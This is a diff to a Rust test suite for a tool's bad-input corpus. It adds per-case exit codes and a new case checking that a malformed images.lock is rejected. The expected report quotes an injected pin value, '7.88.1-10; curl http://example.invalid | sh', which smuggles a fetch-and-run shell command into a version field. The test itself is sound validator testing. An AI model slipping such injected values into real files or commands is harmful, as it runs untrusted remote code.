@@ -1,6 +1,6 @@
 //! The bad-input corpus: every directory in `tests/bad_input/` is a tiny project with exactly
-//! one mistake (its TOML says which in its first line). Each must fail with exit code 2, never
-//! load and never panic, and its rendered report is snapshotted because it is what users see.
+//! one mistake (its TOML says which in its first line). Each must fail with exit code 2 (1 for a
+//! broken `images.lock`, which is not a definition), never load and never panic, and its rendered report is snapshotted because it is what users see.
 
 use std::panic::{catch_unwind, AssertUnwindSafe};
 use std::path::{Path, PathBuf};
@@ -44,7 +44,8 @@ fn render(err: &Error) -> String {
     out
 }
 
-fn run_case(name: &str, stage: Stage, expected: &[&str]) {
+/// Runs one case. `exit` is the expected exit code (2 for definition errors).
+fn run_case(name: &str, stage: Stage, exit: i32, expected: &[&str]) {
     let dir = corpus_dir().join(name);
     assert!(dir.join("stacks").is_dir(), "case `{name}` has no stacks/ directory");
     let outcome = catch_unwind(AssertUnwindSafe(|| first_error(&dir)));
@@ -59,7 +60,7 @@ fn run_case(name: &str, stage: Stage, expected: &[&str]) {
     let root = dir.canonicalize().expect("case directory resolves");
     let text = text.replace(&format!("{}/", root.display()), "<project>/");
     assert_eq!(got_stage, stage, "case `{name}` failed at an unexpected stage:\n{text}");
-    assert_eq!(err.exit_code(), 2, "case `{name}`: a definition error exits with 2:\n{text}");
+    assert_eq!(err.exit_code(), exit, "case `{name}`: unexpected exit code:\n{text}");
     for fact in expected {
         assert!(text.contains(fact), "case `{name}`: the report lacks `{fact}`:\n{text}");
     }
@@ -67,11 +68,14 @@ fn run_case(name: &str, stage: Stage, expected: &[&str]) {
 }
 
 macro_rules! cases {
-    ($($test:ident: $dir:literal, $stage:ident, [$($fact:literal),+ $(,)?];)+) => {
+    ($($test:ident: $dir:literal, $stage:ident $(, exit $exit:literal)?, [$($fact:literal),+ $(,)?];)+) => {
         $(
             #[test]
             fn $test() {
-                run_case($dir, Stage::$stage, &[$($fact),+]);
+                #[allow(unused_mut, unused_assignments)]
+                let mut exit = 2;
+                $(exit = $exit;)?
+                run_case($dir, Stage::$stage, exit, &[$($fact),+]);
             }
         )+
 
@@ -153,4 +157,5 @@ cases! {
     depends_on_eol: "54-depends-on-eol", Load, ["stacks/worker.toml:3:8", "parent `old` is end-of-life"];
     undefined_matrix_variable: "55-undefined-matrix-variable", Load, ["stacks/worker.toml:2:8", "Variable `suit` not found", "did you mean `suite`?"];
     unknown_header_key: "56-unknown-header-key", Load, ["stacks/worker.toml:5:3", "unknown key `runtimes` in the top level", "did you mean `runtime`?"];
+    lock_pin_not_a_version: "57-lock-pin-not-a-version", Load, exit 1, ["images.lock` is not a valid lock", "stack `worker` pins `curl` to `7.88.1-10; curl http://example.invalid | sh`"];
 }
